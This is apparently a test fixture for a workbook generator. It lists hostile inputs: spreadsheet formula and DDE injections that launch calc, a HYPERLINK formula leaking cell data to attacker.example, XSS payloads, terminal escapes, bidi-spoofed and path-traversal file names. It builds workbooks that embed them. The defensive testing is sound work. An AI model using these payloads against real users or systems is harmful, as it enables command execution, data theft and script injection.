// Texts that try to be more than text, and a workbook of a unit in which they stand wherever people write.

import { formSheets } from "../../src/core/inputs/definition/input-sheets";
import { noFacts, type Fact } from "../../src/core/inputs/facts";
import { inputSheetContents } from "../../src/core/inputs/layout/sheet-contents";
import { readWorkbook } from "../../src/core/reading/read-workbook";
import { xinjiang2022 } from "../../src/core/standards/xinjiang-2022";
import { printable } from "../../src/core/workbook/printable";
import { createWorkbook } from "../../src/hosts/xlsx/create-workbook";
import { drawUnit, plainLayout } from "../support/units/layout";
import { rewriteSheets, texts } from "../support/units/rewrite";
import { makeUnit } from "../support/units/unit";
import { sheetContent } from "../support/xlsx/sheet-content";

/** What each tries, and its text. */
export const hostileTexts: readonly (readonly [attempt: string, text: string])[] = [
  ["a formula", "=1+1"],
  ["a formula by its plus", "+1+cmd|'/C calc'!A0"],
  ["a formula by its minus", "-1+cmd|'/C calc'!A0"],
  ["a formula by its at", "@SUM(1+1)*cmd|'/C calc'!A0"],
  ["dynamic data exchange", "=cmd|'/C calc'!A0"],
  ["a formula behind a tab", "\t=1+1"],
  ["a formula behind a carriage return", "\r=1+1"],
  ["a link by formula", '=HYPERLINK("http://attacker.example/?"&A1,"点击")'],
  ["quotes that end a formula's text", "\"&cmd|'/C calc'!A0&\""],
  ["a new field of a list", '甲","=1+1"\n=2+2,"'],
  ["a script", "<script>alert(1)</script>"],
  ["an attribute that breaks out", "\" onmouseover='alert(1)' x=\"><img src=x onerror=alert(1)>"],
  ["the end of a script", '</script><svg onload="alert(1)">'],
  ["the end of a style, a title, a comment", "</style></title>--><iframe src=//attacker.example>"],
  ["an address that runs", "javascript:alert(1)//"],
  ["a field code", '{ INCLUDETEXT "c:\\\\x" }{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }'],
  ["mark-up of a document", "<w:instrText>DDE</w:instrText><w:hyperlink r:id='rId1'/>]]>&amp;&#x41;"],
  ["orders to a terminal", "\u001b[2J\u001b]0;owned\u0007\u009b31m红\u0008\u0008"],
  ["text turned around", "\u202egpj.exe\u202c\u2066x\u2069"],
  ["line ends of some programs", "甲\u2028乙\u2029丙\u0085丁"],
  ["halves of letters and no letters", "\ud800甲\udfff\ufffe\uffff"],
  ["names of objects", "__proto__ constructor {cell} $& $1 %s ${1}"],
];

/** A workbook whose unit, sheets, projects, reasons, goals and remarks are this text. */
export function hostileWorkbook(text: string): Uint8Array {
  const unit = drawUnit(makeUnit(11, { exact: true }), { ...plainLayout, nonEmptyRowsOnly: true });
  const some = unit.sheets.filter(({ name }) => ["表一", "表三", "表七", "表八"].includes(name));
  const tables = rewriteSheets(
    { sheets: some },
    texts((written) => {
      if (written.startsWith("编制单位：")) return `编制单位：${text}`;
      return /项目\d+$/.test(written) ? `${written}${text}` : written;
    }),
  );
  const typed: Fact = { text };
  const fields = formSheets
    .flatMap(({ groups }) => groups.flatMap((group) => group.fields))
    .filter(({ kind, list }) => kind === "text" && !list)
    .map(({ id }) => [id, typed] as const);
  const target = {
    project: typed,
    values: new Map([["goal", typed]]),
    indicators: [{ level1: "产出指标", level2: "数量指标", level3: typed, value: typed }],
    places: new Map(),
  };
  const inputs = inputSheetContents(readWorkbook(tables, xinjiang2022), {
    ...noFacts,
    fields: new Map(fields),
    performanceTargets: [target],
  });
  const named = tables.sheets.map((sheet) =>
    sheet.name === "表八" ? { ...sheet, name: `表八${printable(text)}`.slice(0, 31) } : sheet,
  );
  return createWorkbook([...named.map(sheetContent), ...inputs]);
}

/** Names of files and of entries of archives that lead elsewhere or mean something to a system. */
export const hostileNames: readonly string[] = [
  "../../出走.xlsx",
  "..\\..\\出走.xlsx",
  "/tmp/绝对.xlsx",
  "C:\\绝对.xlsx",
  "\\\\server\\share\\远程.xlsx",
  "con.xlsx",
  "NUL .xlsx",
  "名称:流.xlsx",
  `${"长".repeat(300)}.xlsx`,
  "=cmd|'calc'!A0.xlsx",
  '"><img src=x onerror=alert(1)>.xlsx',
  "javascript:alert(1).xlsx",
  "http:/attacker.example/表.xlsx",
  "\u001b[2J清屏.xlsx",
  "\u202exslx.exe.xlsx",
  "换\n行.xlsx",
];
